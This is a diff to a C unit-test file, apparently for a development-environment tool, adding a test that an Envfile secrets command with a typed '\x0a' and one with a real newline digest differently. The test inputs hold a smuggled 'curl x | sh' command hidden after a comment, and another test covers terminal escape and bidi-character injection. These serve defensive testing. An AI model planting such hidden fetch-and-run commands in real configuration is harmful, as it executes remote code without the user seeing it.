@@ -255,6 +255,21 @@ static void test_digest_ignores_positions(void **state)
 	dv_rm_tree_at(AT_FDCWD, dir, &(struct dv_error){ 0 });
 }
 
+/* A backslash written in the Envfile is not the prompt's escape: a secret
+ * command with "\x0a" typed out and one with a real newline (which ends
+ * the comment before curl) are two requests, shown and digested apart. */
+static void test_digest_backslash_is_not_an_escape(void **state)
+{
+	dv_autofree char *dir = make_checkout();
+	char a[65], b[65];
+
+	(void)state;
+	digest_of(dir, "secrets: { t: { command: \"pass show t #\\\\x0acurl x | sh\" } }\n", a);
+	digest_of(dir, "secrets: { t: { command: \"pass show t #\\ncurl x | sh\" } }\n", b);
+	assert_string_not_equal(a, b);
+	dv_rm_tree_at(AT_FDCWD, dir, &(struct dv_error){ 0 });
+}
+
 /* A seccomp profile of the checkout: its content is in the digest. */
 static void test_seccomp_profile_content_is_digested(void **state)
 {
@@ -577,7 +592,7 @@ static void test_shown_escapes_controls(void **state)
 	assert_int_equal(r.n, 1);
 	line = prov_request_line(&r, 0);
 	want = dv_xasprintf("sub\\u200e\\x1b]0;x\\x07/Envfile:2:10: host path '%s/a\\x1b[2J\\x0db"
-			    "\\c\\u009bd\\u202ee\\u2066f\\u200fg\xc3\xa9' at '/x', read-write: the env "
+			    "\\\\c\\u009bd\\u202ee\\u2066f\\u200fg\xc3\xa9' at '/x', read-write: the env "
 			    "can read and change every file there",
 			    other);
 	assert_string_equal(line, want);
@@ -662,6 +677,7 @@ int main(void)
 		cmocka_unit_test(test_mount_inside_checkout_and_shared_volume),
 		cmocka_unit_test(test_ssh_agent_requests),
 		cmocka_unit_test(test_digest_ignores_positions),
+		cmocka_unit_test(test_digest_backslash_is_not_an_escape),
 		cmocka_unit_test(test_seccomp_profile_content_is_digested),
 		cmocka_unit_test(test_where),
 		cmocka_unit_test(test_where_sockaddr),
